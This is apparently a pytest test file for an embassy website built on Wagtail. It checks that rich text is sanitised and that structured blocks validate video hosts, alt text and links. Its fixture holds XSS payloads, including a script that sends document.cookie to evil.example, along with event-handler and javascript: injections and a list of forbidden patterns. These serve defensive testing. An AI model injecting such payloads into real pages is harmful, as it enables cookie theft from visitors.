"""Body blocks: sanitised rich text whatever the write path, and the rules of structured blocks."""

import pytest
from wagtail.blocks import StreamValue
from wagtail.blocks.struct_block import StructBlockValidationError
from wagtail.rich_text import RichText

from embassies import factories as content
from embassies.blocks import BodyBlock, CallToActionBlock, InfographicBlock, VideoEmbedBlock
from embassies.models import ArticlePage
from embassies.rich_text import sanitise_rich_text

HOSTILE_HTML = (
    '<p onclick="steal()">Visa hours <b>extended</b></p>'
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    '<a href="javascript:alert(1)">apply</a>'
    '<a href="https://consular.example.org/visa">apply online</a>'
    '<img src="x" onerror="alert(1)">'
    "<iframe src='https://evil.example'></iframe>"
    '<a linktype="page" id="12">our page</a>'
    '<embed embedtype="image" id="3" format="left" alt="Queue at the consulate" onload="x()"/>'
    "<style>body{display:none}</style>"
)


def test_sanitiser_keeps_editor_markup_and_drops_everything_else():
    clean = sanitise_rich_text(HOSTILE_HTML)
    for forbidden in ("<script", "onclick", "javascript:", "onerror", "<iframe", "<style", "document.cookie", "onload", "<img"):
        assert forbidden not in clean
    assert "<b>extended</b>" in clean
    assert 'href="https://consular.example.org/visa"' in clean
    assert '<a id="12" linktype="page">' in clean or '<a linktype="page" id="12">' in clean
    assert 'embedtype="image"' in clean and 'alt="Queue at the consulate"' in clean


@pytest.mark.django_db
def test_script_never_survives_saving_a_page_body(hanoi):
    page = content.article(content.section(hanoi), title="Visa hours", live=False)
    page.body = [("rich_text", RichText(HOSTILE_HTML))]
    page.save_revision().publish()

    stored = ArticlePage.objects.get(pk=page.pk)
    raw = str(stored.body.raw_data)
    assert "<script" not in raw and "javascript:" not in raw and "onclick" not in raw
    latest = stored.latest_revision.content["body"]
    assert "<script" not in str(latest)
    rendered = str(stored.body)
    assert "<script" not in rendered and "extended" in rendered


def test_stream_json_written_directly_is_sanitised_on_read():
    block = BodyBlock()
    value = block.to_python([{"type": "rich_text", "value": "<p>ok</p><script>alert(1)</script>"}])
    assert isinstance(value, StreamValue)
    assert "<script" not in value[0].value.source


def test_video_block_accepts_known_hosts_only():
    block = VideoEmbedBlock()
    ok = block.to_python({"url": "https://www.youtube.com/watch?v=dQw4w9WgXcQ", "title": "Briefing"})
    block.clean(ok)
    with pytest.raises(StructBlockValidationError):
        block.clean(block.to_python({"url": "https://evil.example/video.mp4", "title": "Briefing"}))


@pytest.mark.django_db
def test_infographic_requires_a_text_alternative(hanoi):
    image = content.image(title="Visa statistics 2026", collection=hanoi.collection)
    block = InfographicBlock()
    with pytest.raises(StructBlockValidationError) as error:
        block.clean(block.to_python({"image": image.pk, "text_alternative": ""}))
    assert "text_alternative" in error.value.block_errors
    block.clean(block.to_python({"image": image.pk, "text_alternative": "Visas issued rose 12% to 48,000."}))


def test_call_to_action_links_to_exactly_one_target():
    block = CallToActionBlock()
    with pytest.raises(StructBlockValidationError):
        block.clean(block.to_python({"text": "Register", "page": None, "url": ""}))
    block.clean(block.to_python({"text": "Register", "page": None, "url": "https://events.example.org/register"}))
